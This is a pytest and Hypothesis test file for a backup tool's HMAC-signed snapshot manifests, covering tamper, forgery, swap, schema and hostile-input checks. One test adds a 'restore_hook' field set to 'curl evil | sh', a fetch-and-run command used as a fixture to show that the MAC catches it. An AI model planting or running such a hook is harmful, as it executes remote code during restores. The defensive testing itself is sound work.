"""Tests for drdaemon.manifest: golden round trip, tamper detection, forged and swapped
manifests, and Hypothesis properties showing that `parse` of untrusted input fails only
with IntegrityError.

MACs that the tests need to be valid are computed here from the documented rule (HMAC-SHA256
over the canonical JSON of the body: sorted keys, no spaces, UTF-8), not with the module's
private helpers, so the format itself is pinned as well.
"""

from __future__ import annotations

import copy
import hashlib
import hmac
import json
import secrets
from datetime import UTC, datetime, timedelta, timezone
from typing import Any

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from drdaemon.errors import IntegrityError
from drdaemon.keys import ManifestKey
from drdaemon.layout import (
    ID_RE,
    KINDS,
    data_object_name,
    id_time,
    manifest_object_name,
    manifests_prefix,
    new_snapshot_id,
    snapshot_id_from_manifest_name,
)
from drdaemon.manifest import MAX_MANIFEST_BYTES, Manifest, parse, serialize

KEY = ManifestKey(secrets.token_bytes(32))
OTHER_KEY = ManifestKey(secrets.token_bytes(32))
SNAP_ID = "20240315T021500Z-0a1b2c3d"

PROPERTY = settings(max_examples=150, deadline=None,
                    suppress_health_check=[HealthCheck.too_slow])


def sample_manifest(**changes: Any) -> Manifest:
    m = Manifest(
        id=SNAP_ID,
        source="lms-db",
        tenant="acme-university",
        tier="gold",
        kind="postgres",
        consistency_time=datetime(2024, 3, 15, 2, 15, 0, 123456, tzinfo=UTC),
        # another zone on purpose: serialised as UTC, equal as an instant
        started_at=datetime(2024, 3, 15, 3, 15, 0, 5, tzinfo=timezone(timedelta(hours=1))),
        finished_at=datetime(2024, 3, 15, 2, 20, 42, 999999, tzinfo=UTC),
        data_name=data_object_name("lms-db", SNAP_ID, "postgres"),
        sha256="0123456789abcdef" * 4,
        size=123_456_789,
        compressed_size=123_400_000,
        plaintext_size=987_654_321,
        zstd_level=3,
        recipients=("sha256:00112233445566aa", "sha256:ffeeddccbbaa9988"),
        facts={"server_version": "16.2", "tables": 42, "databases": ["lms", "lms_audit"],
               "options": {"jobs": 4, "blobs": True, "comment": None}, "note": "Zürich ✓"},
        drdaemon_version="0.1.0",
    )
    return Manifest(**{**m.__dict__, **changes})


def canonical(body: dict[str, Any]) -> bytes:
    return json.dumps(body, sort_keys=True, separators=(",", ":"), ensure_ascii=False).encode()


def sign(body: Any, key: ManifestKey = KEY) -> bytes:
    """A manifest document for `body` with a valid MAC under `key`, in an arbitrary layout."""
    if not isinstance(body, dict):
        return json.dumps(body).encode()
    body = {k: v for k, v in body.items() if k != "mac"}
    mac = hmac.new(key.secret, canonical(body), hashlib.sha256).hexdigest()
    return json.dumps(dict(body, mac={"algorithm": "hmac-sha256", "key_id": key.key_id,
                                      "value": mac})).encode()


def doc_of(raw: bytes) -> dict[str, Any]:
    doc = json.loads(raw)
    assert isinstance(doc, dict)
    return doc


def body_of(raw: bytes) -> dict[str, Any]:
    doc = doc_of(raw)
    del doc["mac"]
    return doc


RAW = serialize(sample_manifest(), KEY)
BODY = body_of(RAW)


# --------------------------------------------------------------------------------------------
# golden round trip
# --------------------------------------------------------------------------------------------


def test_golden_round_trip() -> None:
    m = sample_manifest()
    raw = serialize(m, KEY)
    assert raw == serialize(m, KEY)  # deterministic
    assert raw.endswith(b"\n")
    parsed = parse(raw, KEY)
    assert parsed == m
    assert parse(raw, KEY, source="lms-db", snapshot_id=SNAP_ID) == m
    for t in (parsed.consistency_time, parsed.started_at, parsed.finished_at):
        assert t.tzinfo == UTC
    assert parsed.started_at == datetime(2024, 3, 15, 2, 15, 0, 5, tzinfo=UTC)
    assert parsed.recipients == m.recipients and isinstance(parsed.recipients, tuple)


def test_golden_document_layout() -> None:
    """The stored JSON, field by field (docs/format.md), and its MAC by the documented rule."""
    doc = doc_of(RAW)
    mac = doc.pop("mac")
    assert doc == {
        "format": "drdaemon.manifest",
        "version": 1,
        "id": SNAP_ID,
        "source": "lms-db",
        "tenant": "acme-university",
        "tier": "gold",
        "kind": "postgres",
        "consistency_time": "2024-03-15T02:15:00.123456Z",
        "started_at": "2024-03-15T02:15:00.000005Z",
        "finished_at": "2024-03-15T02:20:42.999999Z",
        "data": {
            "name": f"sources/lms-db/data/{SNAP_ID}.pgdump.zst.age",
            "sha256": "0123456789abcdef" * 4,
            "size": 123_456_789,
            "compressed_size": 123_400_000,
            "plaintext_size": 987_654_321,
            "compression": {"algorithm": "zstd", "level": 3},
            "encryption": {"algorithm": "age-x25519",
                           "recipients": ["sha256:00112233445566aa", "sha256:ffeeddccbbaa9988"]},
        },
        "facts": {"server_version": "16.2", "tables": 42, "databases": ["lms", "lms_audit"],
                  "options": {"jobs": 4, "blobs": True, "comment": None}, "note": "Zürich ✓"},
        "drdaemon_version": "0.1.0",
    }
    assert mac == {"algorithm": "hmac-sha256", "key_id": KEY.key_id,
                   "value": hmac.new(KEY.secret, canonical(doc), hashlib.sha256).hexdigest()}
    assert "Zürich ✓".encode() in RAW  # UTF-8, not \u escapes


def test_layout_does_not_matter_only_content() -> None:
    """The MAC covers the canonical form: key order and whitespace may change."""
    doc = doc_of(RAW)
    for raw in (json.dumps(doc).encode(), json.dumps(doc, indent=8, ensure_ascii=True).encode(),
                json.dumps(dict(reversed(list(doc.items())))).encode(), RAW.rstrip() + b"\n\n  "):
        assert parse(raw, KEY) == sample_manifest()


def test_a_directory_snapshot_round_trips() -> None:
    m = sample_manifest(kind="directory", source="course-files", facts={},
                        data_name=data_object_name("course-files", SNAP_ID, "directory"),
                        recipients=(), size=0, compressed_size=0, plaintext_size=0,
                        zstd_level=-5)
    assert parse(serialize(m, KEY), KEY, source="course-files") == m


# --------------------------------------------------------------------------------------------
# tampering, forging, swapping
# --------------------------------------------------------------------------------------------


def _leaf_paths(node: Any, path: tuple[Any, ...] = ()) -> list[tuple[Any, ...]]:
    if isinstance(node, dict) and node:
        return [p for k, v in node.items() for p in _leaf_paths(v, (*path, k))]
    if isinstance(node, list) and node:
        return [p for i, v in enumerate(node) for p in _leaf_paths(v, (*path, i))]
    return [path]


def _get_path(doc: Any, path: tuple[Any, ...]) -> Any:
    for step in path:
        doc = doc[step]
    return doc


def _set_path(doc: Any, path: tuple[Any, ...], value: Any) -> None:
    _get_path(doc, path[:-1])[path[-1]] = value


def _tweak(value: Any) -> Any:
    """A plausible, schema-preserving change: the MAC is what must catch it."""
    if isinstance(value, bool):
        return not value
    if isinstance(value, int):
        return value + 1
    if value is None:
        return 0
    if isinstance(value, str) and value:
        last = value[-1]
        for alphabet in ("0123456789", "abcdef", "ghijklmnopqrstuvwxyz",
                         "ABCDEFGHIJKLMNOPQRSTUVWXYZ"):
            if last in alphabet:
                return value[:-1] + alphabet[(alphabet.index(last) + 1) % len(alphabet)]
        return value + "x"
    if isinstance(value, str):
        return "x"
    if isinstance(value, list):
        return [*value, "extra"]
    if isinstance(value, dict):
        return {**value, "extra": 1}
    raise AssertionError(value)


LEAVES = _leaf_paths(BODY)


def test_every_field_is_covered_by_the_tamper_tests() -> None:
    names = {"/".join(map(str, p)) for p in LEAVES}
    for field in ("id", "source", "tenant", "tier", "kind", "version", "format", "started_at",
                  "data/sha256", "data/size", "data/name", "data/compression/level",
                  "data/encryption/recipients/0", "facts/tables", "facts/options/comment",
                  "drdaemon_version"):
        assert field in names


@pytest.mark.parametrize("path", LEAVES, ids=lambda p: "/".join(map(str, p)))
def test_changing_any_field_is_detected(path: tuple[Any, ...]) -> None:
    doc = doc_of(RAW)
    _set_path(doc, path, _tweak(_get_path(doc, path)))
    with pytest.raises(IntegrityError, match="authentication failed"):
        parse(json.dumps(doc).encode(), KEY)


@pytest.mark.parametrize("path", [(k,) for k in BODY] + [("data", k) for k in BODY["data"]],
                         ids=lambda p: "/".join(p))
def test_removing_any_field_is_detected(path: tuple[str, ...]) -> None:
    doc = doc_of(RAW)
    del _get_path(doc, path[:-1])[path[-1]]
    with pytest.raises(IntegrityError, match="authentication failed"):
        parse(json.dumps(doc).encode(), KEY)


@pytest.mark.parametrize("where", [(), ("data",), ("facts",), ("data", "encryption")],
                         ids=lambda p: "/".join(p) or "top")
def test_adding_a_field_is_detected(where: tuple[str, ...]) -> None:
    doc = doc_of(RAW)
    _get_path(doc, where)["restore_hook"] = "curl evil | sh"
    with pytest.raises(IntegrityError, match="authentication failed"):
        parse(json.dumps(doc).encode(), KEY)


@pytest.mark.parametrize("mac", [
    None,
    "deadbeef",
    [],
    {},
    {"key_id": KEY.key_id, "value": "00" * 32},
    {"algorithm": "hmac-sha512", "key_id": KEY.key_id, "value": "00" * 32},
    {"algorithm": "hmac-sha256", "key_id": KEY.key_id},
    {"algorithm": "hmac-sha256", "key_id": KEY.key_id, "value": None},
    {"algorithm": "hmac-sha256", "key_id": KEY.key_id, "value": 0},
    {"algorithm": "hmac-sha256", "key_id": KEY.key_id, "value": ""},
    {"algorithm": "hmac-sha256", "key_id": KEY.key_id, "value": "00" * 32},
], ids=repr)
def test_missing_or_malformed_mac(mac: Any) -> None:
    doc = body_of(RAW)
    if mac is not None:
        doc["mac"] = mac
    with pytest.raises(IntegrityError):
        parse(json.dumps(doc).encode(), KEY)


def test_mac_value_is_compared_exactly() -> None:
    doc = doc_of(RAW)
    doc["mac"]["value"] = doc["mac"]["value"].upper()
    with pytest.raises(IntegrityError, match="authentication failed"):
        parse(json.dumps(doc).encode(), KEY)
    doc["mac"]["value"] = doc["mac"]["value"].lower()[:-1]
    with pytest.raises(IntegrityError, match="authentication failed"):
        parse(json.dumps(doc).encode(), KEY)


def test_signed_with_another_key() -> None:
    raw = serialize(sample_manifest(), OTHER_KEY)
    with pytest.raises(IntegrityError, match="another manifest key") as exc_info:
        parse(raw, KEY)
    assert OTHER_KEY.secret.hex() not in str(exc_info.value)
    assert KEY.secret.hex() not in str(exc_info.value)


def test_another_key_claiming_our_key_id() -> None:
    """The key id is public; claiming ours does not help a writer without our key."""
    doc = doc_of(serialize(sample_manifest(size=1), OTHER_KEY))
    doc["mac"]["key_id"] = KEY.key_id
    with pytest.raises(IntegrityError, match="authentication failed"):
        parse(json.dumps(doc).encode(), KEY)


@pytest.mark.parametrize("digest", ["sha256", "sha256-of-whole-doc", "hmac-empty-key"])
def test_mac_recomputed_without_the_key(digest: str) -> None:
    """Someone who can write to a bucket swaps the data hash and 'fixes' the MAC."""
    body = body_of(RAW)
    body["data"]["sha256"] = hashlib.sha256(b"planted age file").hexdigest()
    if digest == "sha256":
        value = hashlib.sha256(canonical(body)).hexdigest()
    elif digest == "sha256-of-whole-doc":
        value = hashlib.sha256(json.dumps(body).encode()).hexdigest()
    else:
        value = hmac.new(b"", canonical(body), hashlib.sha256).hexdigest()
    raw = json.dumps(dict(body, mac={"algorithm": "hmac-sha256", "key_id": KEY.key_id,
                                     "value": value})).encode()
    with pytest.raises(IntegrityError, match="authentication failed"):
        parse(raw, KEY)


def test_swapped_manifest_is_refused() -> None:
    """A genuine manifest copied to another source's or snapshot's name."""
    with pytest.raises(IntegrityError, match="belongs to source 'lms-db'"):
        parse(RAW, KEY, source="course-files")
    with pytest.raises(IntegrityError, match="is for snapshot"):
        parse(RAW, KEY, snapshot_id="20240316T021500Z-0a1b2c3d")
    with pytest.raises(IntegrityError):
        parse(RAW, KEY, source="lms-db", snapshot_id="20240316T021500Z-0a1b2c3d")
    assert parse(RAW, KEY, source="lms-db", snapshot_id=SNAP_ID) == sample_manifest()


def test_oversize_input() -> None:
    assert len(RAW) < MAX_MANIFEST_BYTES
    exactly = RAW + b" " * (MAX_MANIFEST_BYTES - len(RAW))
    assert parse(exactly, KEY) == sample_manifest()  # the limit itself is allowed
    with pytest.raises(IntegrityError, match="larger than"):
        parse(exactly + b" ", KEY)
    with pytest.raises(IntegrityError, match="larger than"):
        parse(b"x" * (10 * MAX_MANIFEST_BYTES), KEY)
    # a validly signed manifest that is simply too big
    big = serialize(sample_manifest(facts={"pad": "p" * MAX_MANIFEST_BYTES}), KEY)
    with pytest.raises(IntegrityError, match="larger than"):
        parse(big, KEY)


@pytest.mark.parametrize("version", [0, 2, 3, -1, 10**30, "1", None, 1.5, [1], True], ids=repr)
def test_unknown_version(version: Any) -> None:
    body = copy.deepcopy(BODY)
    body["version"] = version
    with pytest.raises(IntegrityError, match="version"):
        parse(sign(body), KEY)


def test_missing_version_and_wrong_format() -> None:
    body = copy.deepcopy(BODY)
    del body["version"]
    with pytest.raises(IntegrityError, match="version"):
        parse(sign(body), KEY)
    for fmt in ("drdaemon.manifest.v2", "restic.snapshot", None, 1):
        body = dict(BODY, format=fmt)
        with pytest.raises(IntegrityError, match="not a drdaemon manifest"):
            parse(sign(body), KEY)


def _with(path: tuple[Any, ...], value: Any) -> dict[str, Any]:
    body = copy.deepcopy(BODY)
    _set_path(body, path, value)
    return body


def _without(path: tuple[Any, ...]) -> dict[str, Any]:
    body = copy.deepcopy(BODY)
    del _get_path(body, path[:-1])[path[-1]]
    return body


SCHEMA_VIOLATIONS = {
    "id-malformed": _with(("id",), "2024-03-15-0a1b2c3d"),
    "id-uppercase": _with(("id",), SNAP_ID.upper()),
    "id-int": _with(("id",), 20240315),
    "kind-unknown": _with(("kind",), "mysql"),
    "kind-data-suffix": _with(("kind",), "pgdump"),
    "sha256-short": _with(("data", "sha256"), "ab" * 31),
    "sha256-upper": _with(("data", "sha256"), "AB" * 32),
    "sha256-null": _with(("data", "sha256"), None),
    "size-negative": _with(("data", "size"), -1),
    "size-string": _with(("data", "size"), "123"),
    "size-float": _with(("data", "size"), 12.5),
    "size-bool": _with(("data", "size"), True),
    "plaintext-size-negative": _with(("data", "plaintext_size"), -5),
    "level-string": _with(("data", "compression", "level"), "3"),
    "compression-list": _with(("data", "compression"), [3]),
    "recipients-string": _with(("data", "encryption", "recipients"), "sha256:00"),
    "data-list": _with(("data",), []),
    "facts-list": _with(("facts",), ["a"]),
    "source-int": _with(("source",), 7),
    "tier-null": _with(("tier",), None),
    "time-garbage": _with(("started_at",), "yesterday"),
    "time-no-zone": _with(("finished_at",), "2024-03-15T02:20:42"),
    "time-int": _with(("consistency_time",), 1710468900),
    "no-data": _without(("data",)),
    "no-source": _without(("source",)),
    "no-sha256": _without(("data", "sha256")),
    "no-encryption": _without(("data", "encryption")),
    "no-facts": _without(("facts",)),
    "no-drdaemon-version": _without(("drdaemon_version",)),
}


@pytest.mark.parametrize("body", SCHEMA_VIOLATIONS.values(), ids=SCHEMA_VIOLATIONS.keys())
def test_validly_signed_but_malformed(body: dict[str, Any]) -> None:
    with pytest.raises(IntegrityError):
        parse(sign(body), KEY)


# --------------------------------------------------------------------------------------------
# properties: untrusted input fails only with IntegrityError
# --------------------------------------------------------------------------------------------

json_scalars = (st.none() | st.booleans() | st.integers()
                | st.floats(allow_nan=False, allow_infinity=False) | st.text(max_size=20))
json_values = st.recursive(
    json_scalars,
    lambda children: st.lists(children, max_size=4)
    | st.dictionaries(st.text(max_size=10), children, max_size=4),
    max_leaves=20,
)


def _check_parsed(m: Manifest) -> None:
    """What parse promises about a manifest it accepts."""
    assert ID_RE.match(m.id) and m.kind in KINDS
    for text in (m.source, m.tenant, m.tier, m.data_name, m.drdaemon_version):
        assert isinstance(text, str)
    assert isinstance(m.sha256, str) and len(m.sha256) == 64
    for n in (m.size, m.compressed_size, m.plaintext_size):
        assert type(n) is int and n >= 0
    assert type(m.zstd_level) is int
    for t in (m.consistency_time, m.started_at, m.finished_at):
        assert isinstance(t, datetime) and t.utcoffset() == timedelta(0)
    assert all(isinstance(r, str) for r in m.recipients) and isinstance(m.facts, dict)
    assert parse(serialize(m, KEY), KEY) == m


def _parse_untrusted(raw: bytes) -> Manifest | None:
    try:
        m = parse(raw, KEY)
    except IntegrityError:
        return None
    _check_parsed(m)
    return m


@PROPERTY
@given(st.binary(max_size=4000))
@example(b"")
@example(b"null")
@example(b"NaN")
@example(b"\xff\xfe{\x00}\x00")
@example(b"[" * 500 + b"]" * 500)
@example(b'{"mac": {"algorithm": "hmac-sha256", "key_id": "' + KEY.key_id.encode() + b'"}}')
def test_parse_arbitrary_bytes(raw: bytes) -> None:
    with pytest.raises(IntegrityError):
        parse(raw, KEY)


@PROPERTY
@given(json_values)
def test_parse_arbitrary_json_with_valid_mac(value: Any) -> None:
    """Any JSON value (objects signed with our key, so the MAC passes and only the schema
    checks stand in the way): parse refuses it with IntegrityError, or accepts a sound one."""
    _parse_untrusted(sign(value))
    _parse_untrusted(json.dumps(value).encode())


_TOP_PATHS = [(k,) for k in BODY]
_DATA_PATHS = [("data", k) for k in BODY["data"]] + [
    ("data", "compression", "level"), ("data", "compression", "algorithm"),
    ("data", "encryption", "recipients"), ("data", "encryption", "algorithm")]
plausible_values = st.one_of(
    json_values,
    st.integers(-3, 3),
    st.sampled_from(["postgres", "directory", "tar", SNAP_ID, "2024-01-01T00:00:00Z",
                     "2024-01-01T00:00:00+05:30", "2024-01-01", "ab" * 32, "AB" * 32, ""]),
)


@st.composite
def mutated_bodies(draw: st.DrawFn) -> dict[str, Any]:
    """The valid body with one to four fields replaced by JSON values or removed."""
    body = copy.deepcopy(BODY)
    for _ in range(draw(st.integers(1, 4))):
        path = draw(st.sampled_from(_TOP_PATHS + _DATA_PATHS))
        try:
            parent = _get_path(body, path[:-1])
        except (KeyError, TypeError, IndexError):
            continue
        if not isinstance(parent, dict):
            continue
        if draw(st.booleans()):
            parent[path[-1]] = draw(plausible_values)
        else:
            parent.pop(path[-1], None)
    if draw(st.booleans()):
        body[draw(st.text(max_size=8))] = draw(json_values)
    return body


@PROPERTY
@given(mutated_bodies())
def test_parse_mutated_manifest_with_valid_mac(body: dict[str, Any]) -> None:
    _parse_untrusted(sign(body))


@PROPERTY
@given(st.integers(0, len(RAW) - 1), st.integers(0, 255))
def test_any_byte_change_is_detected_or_harmless(index: int, byte: int) -> None:
    raw = RAW[:index] + bytes([byte]) + RAW[index + 1:]
    try:
        m = parse(raw, KEY)
    except IntegrityError:
        return
    assert m == sample_manifest()  # e.g. whitespace changed: same content


# --------------------------------------------------------------------------------------------
# hostile input: parse raises only IntegrityError
# --------------------------------------------------------------------------------------------

_OUR_MAC_HEADER = {"algorithm": "hmac-sha256", "key_id": KEY.key_id}


def test_deeply_nested_json_is_an_integrity_error() -> None:
    raw = b"[" * 100_000 + b"]" * 100_000  # well under MAX_MANIFEST_BYTES
    with pytest.raises(IntegrityError):
        parse(raw, KEY)


def test_non_ascii_mac_value_is_an_integrity_error() -> None:
    doc = dict(BODY, mac=dict(_OUR_MAC_HEADER, value="é" * 64))
    with pytest.raises(IntegrityError):
        parse(json.dumps(doc).encode(), KEY)


def test_lone_surrogate_is_an_integrity_error() -> None:
    doc = dict(BODY, mac=dict(_OUR_MAC_HEADER, value="00" * 32), tier="\ud800")
    raw = json.dumps(doc).encode()  # ensure_ascii: the surrogate travels as "\ud800"
    with pytest.raises(IntegrityError):
        parse(raw, KEY)


@pytest.mark.parametrize("stamp", ["0001-01-01T00:00:00+01:00", "9999-12-31T23:59:59-01:00"])
def test_out_of_range_time_is_an_integrity_error(stamp: str) -> None:
    with pytest.raises(IntegrityError):
        parse(sign(dict(BODY, started_at=stamp)), KEY)


# --------------------------------------------------------------------------------------------
# snapshot ids and object names
# --------------------------------------------------------------------------------------------

aware_datetimes = st.datetimes(
    min_value=datetime(1970, 1, 2), max_value=datetime(9998, 12, 30),
    timezones=st.builds(timezone, st.timedeltas(min_value=timedelta(hours=-23, minutes=-59),
                                                max_value=timedelta(hours=23, minutes=59))),
)


def _second(t: datetime) -> datetime:
    return t.astimezone(UTC).replace(microsecond=0)


@PROPERTY
@given(aware_datetimes)
def test_new_snapshot_id_format_and_time(at: datetime) -> None:
    snap_id = new_snapshot_id(at)
    assert ID_RE.fullmatch(snap_id)
    assert id_time(snap_id) == _second(at)
    assert id_time(snap_id).tzinfo == UTC
    assert snapshot_id_from_manifest_name(manifest_object_name("src", snap_id)) == snap_id


@PROPERTY
@given(aware_datetimes, aware_datetimes)
def test_snapshot_ids_sort_by_time(a: datetime, b: datetime) -> None:
    id_a, id_b = new_snapshot_id(a), new_snapshot_id(b)
    if _second(a) < _second(b):
        assert id_a < id_b
    elif _second(b) < _second(a):
        assert id_b < id_a
    else:
        assert id_a[:16] == id_b[:16]


def test_snapshot_ids_are_unique_within_a_second() -> None:
    at = datetime(2024, 3, 15, 2, 15, tzinfo=UTC)
    ids = {new_snapshot_id(at) for _ in range(200)}
    assert len(ids) == 200
    assert {id_time(i) for i in ids} == {at}


@pytest.mark.parametrize("name", [
    f"sources/lms-db/manifests/{SNAP_ID}.json",
    f"{SNAP_ID}.json",
    f"a/b/c/{SNAP_ID}.json",
])
def test_snapshot_id_from_manifest_name_accepts(name: str) -> None:
    assert snapshot_id_from_manifest_name(name) == SNAP_ID


@pytest.mark.parametrize("name", [
    "",
    ".json",
    SNAP_ID,
    f"{SNAP_ID}.json.tmp",
    f"{SNAP_ID}.JSON",
    f"{SNAP_ID}.jsonx",
    f"{SNAP_ID}json",
    f"x{SNAP_ID}.json",
    f"{SNAP_ID}x.json",
    f"{SNAP_ID}.json/",
    f"{SNAP_ID}.json.json",
    f"{SNAP_ID.upper()}.json",
    "20240315T021500Z-0a1b2c3.json",
    "20240315T021500-0a1b2c3d.json",
    "2024-03-15T02:15:00Z-0a1b2c3d.json",
    f"{SNAP_ID} .json",
    f"sources/lms-db/data/{SNAP_ID}.pgdump.zst.age",
    f"sources/lms-db/manifests/.drdaemon-tmp-{SNAP_ID}.json.0a1b2c3d",
    "notes.json",
], ids=repr)
def test_snapshot_id_from_manifest_name_rejects(name: str) -> None:
    assert snapshot_id_from_manifest_name(name) is None


def test_snapshot_id_with_trailing_newline_is_rejected() -> None:
    assert snapshot_id_from_manifest_name(f"sources/x/manifests/{SNAP_ID}\n.json") is None


def test_object_names() -> None:
    assert manifests_prefix("lms-db") == "sources/lms-db/manifests/"
    assert manifest_object_name("lms-db", SNAP_ID) == f"sources/lms-db/manifests/{SNAP_ID}.json"
    assert data_object_name("f", SNAP_ID, "directory") == f"sources/f/data/{SNAP_ID}.tar.zst.age"
    assert manifest_object_name("lms-db", SNAP_ID).startswith(manifests_prefix("lms-db"))
